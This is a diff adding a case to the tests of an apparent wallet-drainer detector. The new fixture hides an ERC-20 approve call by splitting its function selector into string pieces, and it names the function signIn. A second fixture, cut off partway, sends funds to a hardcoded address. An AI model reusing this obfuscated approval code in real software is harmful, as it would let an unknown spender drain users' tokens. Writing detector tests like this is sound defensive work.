@@ -4,6 +4,14 @@ import { drainsWallet } from './drains-wallet.ts';
 examine(drainsWallet, {
   speaks: [
     {
+      when: 'what begins the call of a contract is put together of pieces',
+      files: {
+        'index.js': `const ask = (method, params) => window.ethereum.request({ method, params }); const data = spender => ['0x09', '5ea7', 'b3'].join('') + spender;
+exports.signIn = async spender => { const [from] = await ask('eth_requestAccounts'); return ask('eth_sendTransaction', [{ from, data: data(spender) }]) }`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the wallet is that of the window of a document, and a method of a class asks it for one thing after the other',
       files: {
         'index.js': `const due = { to: '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359' };
